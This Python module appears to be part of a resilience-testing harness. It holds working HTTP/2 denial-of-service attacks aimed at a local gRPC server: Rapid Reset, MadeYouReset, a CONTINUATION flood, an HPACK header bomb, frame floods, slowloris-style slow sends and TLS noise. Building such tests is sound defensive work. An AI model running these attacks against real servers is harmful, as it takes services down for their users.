"""The attacks: each is a function of a port that attacks by one connection until it is cut off, by raising CutOff."""

import functools
import os
import socket
import struct
import time

from Abuse.wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY, STREAMING, UNARY, CutOff, Peer,
    Requests, frame, message, reset, settings, window_update)

BLOCK = 16_000
# SimpleRequest{response_size: 96, payload.body: 44 bytes}
SIMPLE = b"\x10\x60\x1a\x2e\x12\x2c" + bytes(44)
# StreamingOutputCallRequest with 1000 response_parameters{size: 65536}
BIG = b"\x12\x04\x08\x80\x80\x04" * 1000
# The same with a hundred of 16384
STALLED = b"\x12\x04\x08\x80\x80\x01" * 100


def blocks(pieces, size=BLOCK):
    """Joins pieces to blocks of about a size."""
    held, count = [], 0
    for piece in pieces:
        held.append(piece)
        count += len(piece)
        if count >= size:
            yield b"".join(held)
            held, count = [], 0
    yield b"".join(held)


@functools.cache
def calls(count, piece, path=UNARY, first=1, size=BLOCK):
    """Blocks of what `piece` makes for each of so many streams."""
    requests = Requests(path)
    requests.stream = first - 2
    return list(blocks((piece(requests) for _ in range(count)), size))


def flood(port, first, again, **options):
    """Sends some blocks once and one over and over again, until the server has enough."""
    peer = Peer(port, **options)
    try:
        for block in first:
            peer.send(block)
        while again:
            peer.send(again)
        while True:
            peer.receive(0.1)
    finally:
        peer.close()


def repeated(piece):
    return piece * (BLOCK // len(piece))


def given_up(requests):
    return requests.whole(SIMPLE) + reset(requests.stream)


def rapid_reset(port):
    """Calls that are given up as soon as they are made (CVE-2023-44487)."""
    flood(port, calls(1000, given_up), b"")


def rapid_reset_deaf(port):
    """The same, by a client that reads nothing and goes on after it was cut off."""
    peer = Peer(port, reads=False)
    try:
        for block in calls(20_000, given_up) * 1000:
            peer.send(block)
    finally:
        peer.close()


# Ways to make the server give a stream up (CVE-2025-8671).
BREACHES = {
    "window_overflow": lambda requests: requests.next() + window_update(requests.stream, 0x7FFFFFFF),
    "window_of_zero": lambda requests: requests.next() + window_update(requests.stream, 0),
    "headers_after_end": lambda requests: requests.whole(SIMPLE) + frame(
        HEADERS, END_STREAM | END_HEADERS, requests.stream, requests.encoder.encode([("x", "y")])),
    "data_after_end": lambda requests: requests.whole(SIMPLE) + frame(DATA, 0, requests.stream, b"x"),
    "depends_on_itself": lambda requests: requests.next() + frame(
        PRIORITY, 0, requests.stream, struct.pack(">IB", requests.stream, 1)),
    "wrong_length": lambda requests: requests.next([("content-length", "9")]) + frame(
        DATA, END_STREAM, requests.stream, b"x"),
}


def headless(requests):
    """A request without a path."""
    requests.stream += 2
    return frame(HEADERS, END_STREAM | END_HEADERS, requests.stream, b"\x83\x87")


BREACHES["no_path"] = headless
# So few at a time that the server has given them up before there are too many.
FEW = 3000


def made_you_reset(port):
    """Calls that the server has to give up."""
    flood(port, calls(1000, BREACHES["window_overflow"], size=FEW), b"")


def breach(name):
    return lambda port: flood(port, calls(1000, BREACHES[name], size=FEW), b"")


UNREAD = 41


def resets_unread(port):
    """Makes the server give streams up, and reads nothing: each RST_STREAM waits to be sent."""
    fill_and(port, calls(200_000, headless, first=UNREAD))


def acknowledgements_unread(port):
    """The same with SETTINGS to be acknowledged, never more than a few at a time."""
    fill_and(port, [settings(initial_window_size=65535) * 10] * 100_000)


def fill_and(port, then):
    """Has the server send until the socket takes no more, reading nothing, and then goes on with other blocks."""
    requests = Requests(STREAMING)
    peer = Peer(port, PREFACE + settings(initial_window_size=0x7FFFFFFF) + window_update(0, 0x7FFF0000), reads=False)
    try:
        for _ in range(UNREAD // 2):
            peer.send(requests.whole(BIG))
        time.sleep(0.1)
        for block in then:
            peer.send(block)
        # It was cut off while the rest was on its way, or it is not.
        peer.reads = True
        while True:
            peer.receive(0.1)
    finally:
        peer.close()


def continuations(port):
    """A head that never ends (CVE-2024-27316)."""
    again = repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 10))
    flood(port, [Requests().next(flags=0)], again, acknowledges=False)


def setting_changes(port):
    flood(port, [], repeated(settings(initial_window_size=65535)))


def pings(port):
    flood(port, [], repeated(frame(PING, payload=bytes(8))))


def empty_data(port):
    flood(port, [Requests().next()], repeated(frame(DATA, 0, 1)))


def padding_only(port):
    """DATA that has padding and nothing else: not empty, and yet nothing."""
    flood(port, [Requests().next()], repeated(frame(DATA, PADDED, 1, b"\0")))


def priorities(port):
    flood(port, [], repeated(frame(PRIORITY, 0, 1, bytes(5))))


def window_updates(port):
    flood(port, [], repeated(window_update(0, 1)))


def unknown_frames(port):
    """Frames of a kind that HTTP/2 has to ignore."""
    flood(port, [], repeated(frame(0xF5)))


@functools.cache
def bomb(references):
    """Blocks of requests, each with one field of 4 KB so many times; after the first, each is one byte (HPACK)."""
    requests = Requests()
    requests.encoder.header_table_size = 4096
    base = b"\x83\x87\x04\x28/grpc.testing.BenchmarkService/UnaryCall\x41\x01a"
    entry = b"\x40\x01x\x7f" + varint(3900 - 127) + b"v" * 3900
    def next_one(number):
        block = (base.replace(b"\x41", b"\x01") + (entry if number == 0 else b"") + b"\xbe" * references)
        return frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block)
    return list(blocks(next_one(number) for number in range(100)))


def varint(value):
    made = b""
    while value >= 128:
        made += bytes((value & 127 | 128,))
        value >>= 7
    return made + bytes((value,))


def header_bomb(port):
    """Heads of a few KB that become 45 MB each."""
    flood(port, bomb(12_000), b"")


def small_header_bomb(port):
    """Heads of a few bytes, each a little above the limit."""
    flood(port, bomb(3), b"")


def zero_window(port):
    """Asks for big responses on all streams and never opens a window."""
    requests = Requests(STREAMING)
    flood(port, [PREFACE + settings(initial_window_size=0)] + [requests.whole(STALLED) for _ in range(250)], b"", hello=b"")


def drop_by_drop(port, hello, step, seconds=0.2):
    """Sends a step now and then."""
    peer = Peer(port, hello)
    try:
        while True:
            peer.send(step)
            peer.receive(seconds)
    finally:
        peer.close()


def no_hello(port):
    """A TCP connection on which nothing is said."""
    plain = socket.create_connection(("127.0.0.1", port))
    try:
        plain.settimeout(30)
        said = plain.recv(100)
        raise CutOff("closed" if not said else f"said {said!r}")
    finally:
        plain.close()


def slow_preface(port):
    """HTTP/2's preface, a byte now and then."""
    peer = Peer(port, b"", acknowledges=False)
    try:
        for byte in (PREFACE + settings()) * 10:
            peer.send(bytes((byte,)))
            peer.receive(0.4)
    finally:
        peer.close()


def slow_head(port):
    """A head that goes on and on, a few bytes now and then."""
    block = Requests().next()
    peer = Peer(port, acknowledges=False)
    try:
        peer.send(block[:9])
        for byte in block[9:]:
            peer.send(bytes((byte,)))
            peer.receive(0.2)
    finally:
        peer.close()


def slow_body(port):
    """Bodies on all streams, a byte now and then on each."""
    requests = Requests()
    opening = b"".join(requests.next() + frame(DATA, 0, requests.stream, message(bytes(1000))[:6]) for _ in range(250))
    step = b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, requests.stream + 1, 2))
    drop_by_drop(port, PREFACE + settings() + opening, step)


def idle(port):
    drop_by_drop(port, PREFACE + settings(), b"")


def idle_with_frames(port):
    """No calls, but something now and then."""
    drop_by_drop(port, PREFACE + settings(), frame(0xF5))


def churn(port):
    """A connection that is made, used once, and dropped."""
    peer = Peer(port)
    peer.send(Requests().whole(SIMPLE))
    peer.close()
    raise CutOff("left")


GARBAGE = os.urandom(1 << 16)


def tls_garbage(port):
    """Noise instead of TLS."""
    plain = socket.create_connection(("127.0.0.1", port))
    try:
        plain.sendall(GARBAGE)
        plain.settimeout(5)
        answer = plain.recv(100)
        # An alert record: type 21, version, length 2, level, description.
        raise CutOff(f"alert {answer[6]}" if answer[:1] == b"\x15" and len(answer) == 7 else "closed")
    except (ConnectionResetError, BrokenPipeError):
        raise CutOff("reset") from None
    finally:
        plain.close()


def broken_record(port):
    """Noise in the middle of TLS."""
    peer = Peer(port, acknowledges=False)
    try:
        peer.send_raw(b"\x17\x03\x03\x01\x00" + os.urandom(256))
        while True:
            peer.receive(5)
    finally:
        peer.close()
